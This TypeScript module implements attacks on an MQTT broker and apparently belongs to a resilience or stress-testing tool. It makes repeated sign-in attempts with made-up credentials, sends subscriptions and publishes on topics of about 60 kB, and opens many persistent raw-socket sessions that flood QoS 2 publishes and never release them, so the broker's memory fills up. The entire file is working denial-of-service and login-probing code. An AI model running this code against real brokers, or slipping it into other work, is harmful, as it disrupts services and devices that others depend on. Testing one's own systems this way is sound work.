import { createConnection, type Socket } from 'node:net';
import mqtt, { connectAsync } from 'mqtt';
import { generate, type Packet, parser } from 'mqtt-packet';
import type { Deed, Login, Outcome } from './attack.ts';

/** Does it once; `turn` makes it another one each time. */
export function deedsOf(deed: Deed): (turn: number) => Promise<Outcome> {
  switch (deed.kind) {
    case 'sign in by names made up':
      return async (turn) => {
        const login = { username: `nobody-${turn}`, password: 'wrong', reconnectPeriod: 0 };
        const status = await connectAsync(deed.url, login).then(
          () => 'let in',
          () => 'refused',
        );
        return { status, retryAfter: 0 };
      };
    case 'use long topics':
      return (turn) => useLongTopics(deed.login, turn);
    case 'publish at QoS 2 and release nothing':
      return (turn) => releaseNothing(deed.login, turn);
  }
}

/** In turn on each of four connections. */
function isOdd(turn: number): boolean {
  return Math.floor(turn / 4) % 2 === 1;
}

/** Subscribes to a filter of 60 kB and publishes on such a topic: of as many levels as can be, or few. */
function useLongTopics({ url, topic, ...login }: Login, turn: number): Promise<Outcome> {
  const long = isOdd(turn) ? 'a/'.repeat(30_000) : `${'a'.repeat(600)}/`.repeat(90);
  const client = mqtt.connect(url, { ...login, clientId: `long-${turn}`, reconnectPeriod: 0 });
  return new Promise((resolve) => {
    const end = (status: string) => {
      resolve({ status, retryAfter: 0 });
      client.end(true);
    };
    client.on('error', () => {});
    client.on('close', () => end('cut off'));
    client.subscribe(`${topic}/${long}#`, () => {});
    client.publish(`${topic}/${long}`, '[]', { qos: 1 }, (error) => {
      if (!error) {
        end('acknowledged');
      }
    });
  });
}

const PUBLISHES = 500;

/** As many bytes for each as its reader may send. */
const PAYLOAD = '[{"value":"E2800000000000000000","antenna":1}]'.padEnd(2_000);

/** They stay open as long as the attack. */
const unreleased = new Set<Socket>();

/** One session that is to be kept, of a client id that was not used before. */
function releaseNothing({ url, topic, username, password }: Login, turn: number): Promise<Outcome> {
  const socket = createConnection(Number(new URL(url).port), new URL(url).hostname);
  unreleased.add(socket);
  const login = { clientId: `never-${turn}`, username, password: Buffer.from(password) };
  const connect = { cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: false, keepalive: 0 };
  socket.write(generate({ ...connect, ...login } as Packet));
  for (let messageId = 1; messageId <= PUBLISHES; messageId++) {
    const publish = { topic, payload: PAYLOAD, dup: false, retain: false };
    socket.write(generate({ cmd: 'publish', qos: 2, messageId, ...publish }));
  }
  return new Promise((resolve) => {
    const reading = parser();
    let records = 0;
    reading.on('packet', ({ cmd }) => {
      records += Number(cmd === 'pubrec');
      if (records === PUBLISHES) {
        resolve({ status: `${PUBLISHES} recorded`, retryAfter: 0 });
      }
    });
    socket.on('data', (bytes) => reading.parse(bytes));
    socket.on('error', () => {});
    socket.on('close', () => {
      unreleased.delete(socket);
      resolve({ status: 'cut off', retryAfter: 0 });
    });
  });
}
